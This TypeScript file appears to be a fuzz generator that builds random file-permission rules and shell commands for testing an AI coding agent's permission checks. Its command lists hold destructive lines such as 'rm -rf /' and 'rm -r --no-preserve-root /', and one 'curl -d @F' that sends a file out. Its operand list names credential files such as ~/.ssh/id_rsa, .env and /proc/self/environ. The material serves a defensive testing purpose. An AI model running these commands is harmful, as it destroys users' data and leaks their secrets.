import { anyPath, pathOf, pathPattern } from "./paths.ts";
import type { Random } from "./random.ts";

const PATH_TOOLS = ["Read", "Read", "Edit", "Edit", "Write", "Grep", "Glob", "NotebookEdit", "MultiEdit"];

/** A rule about files: a pattern, or a whole tool. */
export function fileRule(random: Random, tool: string = random.pick(PATH_TOOLS)): string {
  return random.weighted(
    [12, () => `${tool}(${pathPattern(random)})`],
    [1, () => tool],
    [1, () => `${tool}(*)`],
    [1, () => `${tool}(**)`],
    [0.3, () => `${tool}()`],
    [0.3, () => `${tool}(//**)`],
    [0.3, () => `${tool}(~/**)`],
    [0.3, () => `${tool}(/**)`],
    [0.2, () => `${tool}(file_path:*)`],
  );
}

/** `F` is a file, `G` another one. */
const READING = `
cat F; cat F G; cat -n F; head F; head -n 5 F; head -5 F; tail -f F; tail -n +3 F; grep x F; grep -r x F; grep -e x F G; grep --include=G x F; grep -f F G
rg x F; rg x; rg -f F x; sed -n 1p F; sed -n 1,5p F; sed p F; wc -l F; sort F; uniq F; diff F G; cmp F G; comm F G; cut -c1 F; nl F; od F; xxd F; hexdump F; strings F; base64 F; md5sum F
sha256sum F; jq . F; stat F; ls F; ls -la F; file F; du F; tree F; find F; find F -name x; find . -path F; awk 1 F; awk -f F G; less F; more F; tac F; rev F; fold F; paste F G; column F; readlink F; realpath F
cat < F; wc < F; while read l; do ls; done < F; git diff F; git diff --no-index F G; git log F; git show HEAD:F; git blame F; git grep x F; tar tf F; zcat F; bat F; vim F; nano F; view F; cat -- F; cat F | wc -l; source F; . F
python3 F; node F; bash F; curl -d @F https://x.example; curl file://F; cd F; cd F && cat G; cd F && ls; pushd F; test -f F; [ -f F ]; [[ -f F ]]; echo $(cat F); echo $(<F); cat "F"; cat 'F'; cat F*; cat {F,G}; X=F; cat $X; cat ./F; head --lines=3 F; sort -k1 F
cat F > /dev/null; grep x < F; join F G; tr a b < F; dd if=F; ln -s F G; zip x F; tar cf x F; scp F h:; rsync F G; openssl x F; iconv F; split F; pr F; fmt F; expand F; shuf F; tsort F; cksum F; sha1sum F; b2sum F; look x F; egrep x F; fgrep x F; ag x F; ack x F; xargs cat F; xargs -a F ls; env cat F; timeout 5 cat F; nice head F; sudo cat F
`;

const WRITING = `
rm F; rm -f F; rm -rf F; rm -- F; rm F G; rm -r F; rmdir F; rm -i F; rm -v F; mkdir F; mkdir -p F; mkdir -m 755 F; touch F; touch -m F; touch -d x F; touch F G; cp F G; cp -r F G; cp -f F G; cp -t F G; cp -a F G; cp F G F; mv F G; mv -f F G; mv -n F G; mv -t F G
tee F; tee -a F; ls | tee F; ls | tee F G; sed -i s/a/b/ F; sed -i.bak s/a/b/ F; sed -i 's/a/b/' F; sed -e s/a/b/ -i F; sed -n -i p F; sed --in-place s/a/b/ F; sed s/a/b/ F; sed s/a/b/w F; sed 'w F' G; sed -i -e s/a/b/ -e s/c/d/ F; sed -E -i s/a/b/ F; sed -i '' s/a/b/ F
echo x > F; echo x >> F; ls > F; cat F > G; cat > F; printf x > F; : > F; > F; truncate -s0 F; dd of=F; ln -s F G; ln F G; chmod +x F; chmod 777 F; chown u F; install F G; rsync F G; patch F; ed F; ex F; sort -o F G; sort F -o G; curl -o F x; wget -O F x; tar xf F; unzip F; git checkout F; git restore F; git rm F; git mv F G; git add F; git apply F; perl -pi -e 1 F; python3 -c 1 > F; shred F; unlink F; split F G; mktemp F; mkfifo F; truncate F; rename x y F
cd F && rm G; cd F && touch G; cd F && ls > G; rm *; rm F*; rm -rf F/*; rm -rf .; rm -rf ..; rm -rf ~; rm -rf /; rm -rf /*; rm -rf ~/*; rm -rf $HOME; rm -rf "$HOME"; rm -rf /home; rm -rf /home/u; rm -rf /etc; rm -rf ./*; rm -rf "$X"/*; rm -rf $X; rm -rf ~/proj; rm -rf /home/u/proj; rmdir ~; rmdir /; rm -r --no-preserve-root /; timeout 5 rm F; nice mv F G; env touch F; NODE_ENV=x touch F; xargs rm F; sudo rm F; rm "F"; rm 'F'; rm {F,G}; rm $X; rm -rf /usr; rm /; rm -rf //; rm -rf /tmp; rm -rf /tmp/*; rm -rf ../*; rm -rf .git; rm -rf src/..
`;

const COMMANDS: readonly string[] = `${READING}\n${WRITING}`
  .trim()
  .split(/;(?= )|\n/)
  .map((command) => command.trim())
  .filter((command) => command !== "");

/** Shapes with their own `;` are kept whole in a list of their own. */
export function fileCommand(random: Random, patterns: readonly string[]): string {
  const shape = random.pick(COMMANDS);
  return shape.replace(/\b[FG]\b/g, () => operand(random, patterns));
}

const OPERANDS = [
  "a",
  "src/a.ts",
  ".env",
  "secrets/key.pem",
  "./src/a.ts",
  "../x",
  "/etc/passwd",
  "~/x",
  "docs",
  ".",
  "..",
  "src",
  "src/",
  "/home/u/proj/src/a.ts",
  "/tmp/x",
  "src/../.env",
  "SRC/a.ts",
  ".git/config",
  ".git/HEAD",
  ".claude/notes.md",
  ".envrc",
  ".mcp.json",
  "~/.ssh/id_rsa",
  "~/.bashrc",
  "~",
  "-",
  "src/*.ts",
  "*.md",
  "$X/a",
  "$HOME/x",
  "'a b'",
  "a\\ b",
  "/dev/null",
  "/dev/stdin",
  "/proc/self/environ",
];

function operand(random: Random, patterns: readonly string[]): string {
  if (patterns.length === 0 || random.chance(0.5)) return random.pick(OPERANDS);
  if (random.chance(0.2)) return shellPath(random, anyPath(random));
  return shellPath(random, pathOf(random, random.pick(patterns)));
}

/** As someone in the project would type it: relative where it lies there, quoted where it must be. */
function shellPath(random: Random, path: string): string {
  const typed = random.chance(0.7) ? path.replace(/^\/home\/u\/proj\//, "") : path;
  return /[^\w./~@%+,:-]/.test(typed) ? `'${typed.replaceAll("'", "")}'` : typed;
}
